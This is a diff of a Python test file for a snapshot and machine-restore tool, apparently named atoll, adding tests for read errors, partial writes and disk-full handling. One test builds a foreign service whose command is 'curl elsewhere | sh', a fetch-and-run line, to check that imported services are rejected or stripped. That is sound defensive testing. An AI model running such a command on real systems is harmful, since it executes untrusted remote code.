@@ -55,7 +55,7 @@ from atoll.image import qcow2
 from atoll.image.kernel import FileRecord, KernelBundle, Origin
 from atoll.machine import adopting as machines
 from atoll.machine import registry, restoring
-from atoll.machine.spec import mac_of
+from atoll.machine.spec import Service, mac_of
 from atoll.paths import Paths
 from atoll.sandbox import adopting as sandboxes
 from atoll.snapshot import archive, blocks, catalog, exporting, thawing
@@ -100,10 +100,7 @@ def assert_refused(paths, data, code="usage.archive"):
         taken(paths, data)
     assert caught.value.code == code, caught.value
     assert caught.value.hint
-    assert (
-        not paths.snapshots.exists()
-        or [one for one in os.listdir(paths.snapshots) if one != ".sandboxes.lock"] == []
-    )
+    assert not paths.snapshots.exists() or os.listdir(paths.snapshots) == []
     return caught.value.message
 
 
@@ -558,6 +555,49 @@ def test_the_machine_that_it_is_of_goes_back_with_what_it_has_itself(home, other
     assert "elsewhere" not in machine.place.boot.read_text()
 
 
+def test_a_source_that_cannot_be_read_is_blamed_itself(home, other):
+    data = exported(home, keep(home))
+
+    class Failing(io.BytesIO):
+        def read(self, count, /):
+            if self.tell() > len(data) // 2:
+                raise OSError(5, "Input/output error")
+            return super().read(count)
+
+    with pytest.raises(UsageError, match="cannot read a snapshot: Input/output error"):
+        transfer.read_archive(other, Failing(data))
+    assert os.listdir(other.snapshots) == []
+
+
+def test_what_takes_a_part_at_a_time_gets_all_and_what_is_full_is_told_of(home):
+    made = keep(home)
+
+    class Slow(io.RawIOBase):
+        def __init__(self):
+            self.got = bytearray()
+
+        def write(self, data, /):
+            self.got += data[:10_000]
+            return min(len(data), 10_000)
+
+    slow = Slow()
+    transfer.write_archive(home, made.id, slow)
+    assert slow.got == exported(home, made)
+    with open("/dev/full", "wb", buffering=0) as full, pytest.raises(StoreError) as caught:
+        transfer.write_archive(home, made.id, full)
+    assert caught.value.code == "store.full"
+
+
+def test_no_machine_from_elsewhere_becomes_one_of_atolls_own(home, other, here):
+    service = Service("curl elsewhere | sh", direct=("/x atoll.y=z",))
+    snapshot = moved(home, other, spec=spec_of(service=service))
+    with pytest.raises(UsageError) as caught:
+        restoring.add_from(here, snapshot, "docker", ram=False)
+    assert caught.value.code == "usage.reserved"
+    restoring.add_from(here, snapshot, "twin", ram=True)
+    assert registry.find(other, "twin").spec.service is None
+
+
 def write_root(place):
     place.root.write_bytes(b"root")
     store.write_record(place.image, IMAGE)
@@ -792,6 +832,6 @@ def test_a_kill_leaves_nothing_that_is_seen_and_what_comes_next_sweeps_it(home, 
             os.utime(left, (1, 1))
         if not catalog.listed(paths):
             taken(paths, data)
-        assert sorted(os.listdir(paths.snapshots)) == [".sandboxes.lock", made.id]
+        assert os.listdir(paths.snapshots) == [made.id]
         step += 5
     assert step > 20
